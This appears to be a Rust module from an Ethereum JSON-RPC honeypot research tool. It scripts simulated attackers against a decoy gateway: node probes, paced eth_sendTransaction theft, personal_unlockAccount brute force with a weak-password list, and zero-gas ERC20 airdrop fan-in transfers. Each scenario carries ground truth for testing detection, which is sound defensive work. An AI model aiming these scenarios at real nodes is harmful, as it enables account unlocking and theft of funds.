//! Scripted attackers that replay the observed attack patterns against a gateway URL.

use std::collections::BTreeSet;
use std::fmt;
use std::str::FromStr;
use std::time::Duration;

use chrono::{DateTime, Utc};
use k256::ecdsa::SigningKey;
use rand::{Rng, RngCore, SeedableRng};
use rand_chacha::ChaCha20Rng;
use serde::{Deserialize, Serialize};
use serde_json::{json, Value};

use crate::gateway::config::DEFAULT_DECOY;
use crate::miner::Phase;
use crate::types::{encode_hex, Address, Wei};
use crate::wire::abi::encode_transfer;
use crate::wire::tx::address_of;
use crate::wire::DecodedTransaction;

/// Built-in weak-password list (600 entries).
pub const DEFAULT_DICTIONARY: &str = include_str!("../../fixtures/passwords.txt");

/// Request id the polling attacker reuses for every call.
pub const POLLING_ID: u64 = 739296;

const PROBE_METHODS: [&str; 6] = [
    "net_version",
    "rpc_modules",
    "web3_clientVersion",
    "eth_getBlockByNumber",
    "eth_blockNumber",
    "eth_getBlockByHash",
];

#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum ScenarioKind {
    ProbeOnly,
    EtherPolling,
    EtherBruteforce,
    Erc20ZeroGas,
    AirdropFanin,
}

impl ScenarioKind {
    pub const ALL: [ScenarioKind; 5] = [
        ScenarioKind::ProbeOnly,
        ScenarioKind::EtherPolling,
        ScenarioKind::EtherBruteforce,
        ScenarioKind::Erc20ZeroGas,
        ScenarioKind::AirdropFanin,
    ];

    pub fn name(self) -> &'static str {
        match self {
            ScenarioKind::ProbeOnly => "probe_only",
            ScenarioKind::EtherPolling => "ether_polling",
            ScenarioKind::EtherBruteforce => "ether_bruteforce",
            ScenarioKind::Erc20ZeroGas => "erc20_zero_gas",
            ScenarioKind::AirdropFanin => "airdrop_fanin",
        }
    }
}

impl fmt::Display for ScenarioKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.name())
    }
}

impl FromStr for ScenarioKind {
    type Err = String;
    fn from_str(s: &str) -> Result<Self, String> {
        ScenarioKind::ALL
            .into_iter()
            .find(|k| k.name() == s)
            .ok_or_else(|| format!("unknown scenario {s:?}"))
    }
}

#[derive(Clone, Debug)]
pub struct ScenarioParams {
    /// Paced stealing requests per second (polling).
    pub rate: f64,
    /// How long the paced phase lasts (polling).
    pub duration: Duration,
    /// Passwords tried by the brute-force scenario, in order.
    pub dictionary: Vec<String>,
    /// Fresh sender keys in the airdrop scenario.
    pub senders: usize,
    /// Zero-gas raw transactions in the single-key ERC20 scenario.
    pub zero_gas_txs: usize,
    /// Attacker gas price as a multiple of 21 Gwei.
    pub gas_multiplier: u64,
    /// Requests per HTTP body for the raw-transaction scenarios.
    pub batch: usize,
}

impl Default for ScenarioParams {
    fn default() -> Self {
        ScenarioParams {
            rate: 50.0,
            duration: Duration::from_secs(10),
            dictionary: DEFAULT_DICTIONARY.lines().filter(|l| !l.is_empty()).map(str::to_owned).collect(),
            senders: 7058,
            zero_gas_txs: 20,
            gas_multiplier: 5,
            batch: 100,
        }
    }
}

#[derive(Clone, Debug)]
pub struct Scenario {
    pub kind: ScenarioKind,
    pub seed: u64,
    pub params: ScenarioParams,
}

impl Scenario {
    pub fn new(kind: ScenarioKind, seed: u64) -> Self {
        Scenario {
            kind,
            seed,
            params: ScenarioParams::default(),
        }
    }
}

/// What analysis of the scenario's log must find.
#[derive(Clone, Debug, Default, PartialEq, Serialize, Deserialize)]
pub struct GroundTruth {
    pub attackers: BTreeSet<Address>,
    pub phases: BTreeSet<Phase>,
    pub polling_rate: Option<f64>,
    pub passwords: usize,
    pub zero_gas: usize,
    pub airdrop_senders: usize,
    pub airdrop_destination: Option<Address>,
}

/// One HTTP body to send. `paced` bodies are spread evenly at the scenario rate.
#[derive(Clone, Debug, PartialEq)]
pub struct PlannedBody {
    pub body: String,
    pub paced: bool,
}

#[derive(Clone, Debug)]
pub struct Plan {
    pub bodies: Vec<PlannedBody>,
    pub truth: GroundTruth,
}

fn call(method: &str, params: Value, id: Value) -> Value {
    json!({"jsonrpc": "2.0", "id": id, "method": method, "params": params})
}

fn random_address(rng: &mut impl RngCore) -> Address {
    let mut b = [0u8; 20];
    rng.fill_bytes(&mut b);
    Address(b)
}

fn random_key(rng: &mut impl RngCore) -> SigningKey {
    loop {
        let mut b = [0u8; 32];
        rng.fill_bytes(&mut b);
        if let Ok(k) = SigningKey::from_slice(&b) {
            return k;
        }
    }
}

fn probe_calls(rng: &mut impl Rng) -> Vec<Value> {
    PROBE_METHODS
        .iter()
        .map(|m| {
            let params = match *m {
                "eth_getBlockByNumber" => json!(["latest", false]),
                "eth_getBlockByHash" => json!([format!("0x{}", "00".repeat(32)), false]),
                _ => json!([]),
            };
            call(m, params, json!(rng.gen_range(2..1_000_000u32)))
        })
        .collect()
}

fn prepare_calls(mut id: impl FnMut() -> Value) -> Vec<Value> {
    vec![
        call("eth_accounts", json!([]), id()),
        call("eth_coinbase", json!([]), id()),
        call("personal_listAccounts", json!([]), id()),
        call("eth_getBalance", json!([DEFAULT_DECOY, "latest"]), id()),
        call("eth_gasPrice", json!([]), id()),
        call("eth_getTransactionCount", json!([DEFAULT_DECOY, "latest"]), id()),
    ]
}

fn zero_gas_transfer(key: &SigningKey, nonce: u64, token: Address, dest: Address, amount: u64) -> String {
    let data = encode_transfer(&dest, &amount.into());
    let tx = DecodedTransaction::new(nonce, Wei::zero(), 60_000, Some(token), Wei::zero(), data).sign(key, None);
    encode_hex(&tx.encode())
}

fn single(v: Value) -> PlannedBody {
    PlannedBody {
        body: v.to_string(),
        paced: false,
    }
}

/// Deterministic request plan for a scenario: same kind, seed and params give the same bytes.
pub fn plan(s: &Scenario) -> Plan {
    let mut rng = ChaCha20Rng::seed_from_u64(s.seed);
    let mut truth = GroundTruth::default();
    let mut bodies: Vec<PlannedBody> = probe_calls(&mut rng).into_iter().map(single).collect();
    truth.phases.insert(Phase::Probe);
    let p = &s.params;
    match s.kind {
        ScenarioKind::ProbeOnly => {}
        ScenarioKind::EtherPolling => {
            let attacker = random_address(&mut rng);
            let id = || json!(POLLING_ID);
            bodies.extend(prepare_calls(id).into_iter().map(single));
            let gas_price = Wei::from(21_000_000_000u64 * p.gas_multiplier);
            let n = (p.rate * p.duration.as_secs_f64()).round() as usize;
            for _ in 0..n {
                let tx = json!({
                    "from": DEFAULT_DECOY,
                    "to": attacker.to_string(),
                    "gas": "0x5208",
                    "gasPrice": crate::types::quantity_hex(&gas_price.0),
                    "value": crate::types::quantity_hex(&rng.gen_range(10u64.pow(15)..10u64.pow(18)).into()),
                });
                bodies.push(PlannedBody {
                    body: call("eth_sendTransaction", json!([tx]), id()).to_string(),
                    paced: true,
                });
            }
            truth.attackers.insert(attacker);
            truth.phases.extend([Phase::Prepare, Phase::Steal]);
            truth.polling_rate = Some(p.rate);
        }
        ScenarioKind::EtherBruteforce => {
            let attacker = random_address(&mut rng);
            bodies.extend(prepare_calls(|| json!(rng.gen_range(2..1_000_000u32))).into_iter().map(single));
            for pw in &p.dictionary {
                let id = rng.gen_range(2..1_000_000u32);
                bodies.push(single(call("personal_unlockAccount", json!([DEFAULT_DECOY, pw, 300]), json!(id))));
            }
            let tx = json!({"from": DEFAULT_DECOY, "to": attacker.to_string(), "value": "0x4563918244f40000"});
            bodies.push(single(call("eth_sendTransaction", json!([tx]), json!(rng.gen_range(2..1_000_000u32)))));
            truth.attackers.insert(attacker);
            truth.phases.extend([Phase::Prepare, Phase::Steal]);
            truth.passwords = p.dictionary.len();
        }
        ScenarioKind::Erc20ZeroGas | ScenarioKind::AirdropFanin => {
            let token = random_address(&mut rng);
            let dest = random_address(&mut rng);
            let fanin = s.kind == ScenarioKind::AirdropFanin;
            let count = if fanin { p.senders } else { p.zero_gas_txs };
            let single_key = random_key(&mut rng);
            let mut calls = Vec::with_capacity(count);
            let mut senders = BTreeSet::new();
            for i in 0..count {
                let (key, nonce) = if fanin {
                    (random_key(&mut rng), 0)
                } else {
                    (single_key.clone(), i as u64)
                };
                senders.insert(address_of(key.verifying_key()));
                let raw = zero_gas_transfer(&key, nonce, token, dest, rng.gen_range(1..1_000_000_000));
                calls.push(call("eth_sendRawTransaction", json!([raw]), json!(rng.gen_range(2..1_000_000u32))));
            }
            for chunk in calls.chunks(p.batch.max(1)) {
                bodies.push(single(Value::Array(chunk.to_vec())));
            }
            truth.attackers.insert(dest);
            truth.phases.insert(Phase::Steal);
            truth.zero_gas = count;
            truth.airdrop_senders = senders.len();
            truth.airdrop_destination = Some(dest);
        }
    }
    Plan { bodies, truth }
}

#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
pub struct TraceEntry {
    #[serde(with = "crate::gateway::record::ts_millis")]
    pub sent_at: DateTime<Utc>,
    pub request: String,
    pub response: String,
}

#[derive(Clone, Debug, Serialize, Deserialize)]
pub struct Trace {
    pub scenario: ScenarioKind,
    pub seed: u64,
    pub entries: Vec<TraceEntry>,
    /// False when sending stopped early; `error` says why.
    pub complete: bool,
    pub error: Option<String>,
}

/// Sends the scenario's plan to `target_url`, one body at a time, in order.
pub async fn run_scenario(s: &Scenario, target_url: &str) -> (Trace, GroundTruth) {
    let Plan { bodies, truth } = plan(s);
    let mut trace = Trace {
        scenario: s.kind,
        seed: s.seed,
        entries: Vec::with_capacity(bodies.len()),
        complete: true,
        error: None,
    };
    let http = reqwest::Client::new();
    let interval = Duration::from_secs_f64(1.0 / s.params.rate.max(0.001));
    let mut paced_start: Option<tokio::time::Instant> = None;
    let mut paced_sent = 0u32;
    for b in bodies {
        if b.paced {
            let start = *paced_start.get_or_insert_with(tokio::time::Instant::now);
            tokio::time::sleep_until(start + interval * paced_sent).await;
            paced_sent += 1;
        }
        let sent_at = Utc::now();
        let result = async {
            let resp = http
                .post(target_url)
                .header("content-type", "application/json")
                .body(b.body.clone())
                .send()
                .await?;
            resp.text().await
        }
        .await;
        match result {
            Ok(response) => trace.entries.push(TraceEntry {
                sent_at,
                request: b.body,
                response,
            }),
            Err(e) => {
                trace.complete = false;
                trace.error = Some(e.to_string());
                break;
            }
        }
    }
    (trace, truth)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn small(kind: ScenarioKind) -> Scenario {
        let mut s = Scenario::new(kind, 42);
        s.params.senders = 5;
        s.params.duration = Duration::from_secs(1);
        s.params.dictionary = vec!["a".into(), "b".into()];
        s
    }

    #[test]
    fn plans_are_deterministic() {
        for kind in ScenarioKind::ALL {
            let a = plan(&small(kind));
            let b = plan(&small(kind));
            assert_eq!(a.bodies, b.bodies, "{kind}");
            assert_eq!(a.truth, b.truth);
        }
        let mut other = small(ScenarioKind::EtherPolling);
        other.seed = 43;
        assert_ne!(plan(&other).bodies, plan(&small(ScenarioKind::EtherPolling)).bodies);
    }

    #[test]
    fn polling_uses_constant_id() {
        let p = plan(&small(ScenarioKind::EtherPolling));
        let paced: Vec<_> = p.bodies.iter().filter(|b| b.paced).collect();
        assert_eq!(paced.len(), 50);
        assert!(paced.iter().all(|b| b.body.contains("\"id\":739296")));
    }

    #[test]
    fn scenario_names_roundtrip() {
        for kind in ScenarioKind::ALL {
            assert_eq!(kind.name().parse::<ScenarioKind>().unwrap(), kind);
        }
        assert!("nope".parse::<ScenarioKind>().is_err());
    }

    #[test]
    fn airdrop_senders_distinct() {
        let p = plan(&small(ScenarioKind::AirdropFanin));
        assert_eq!(p.truth.airdrop_senders, 5);
        assert_eq!(p.truth.zero_gas, 5);
    }
}
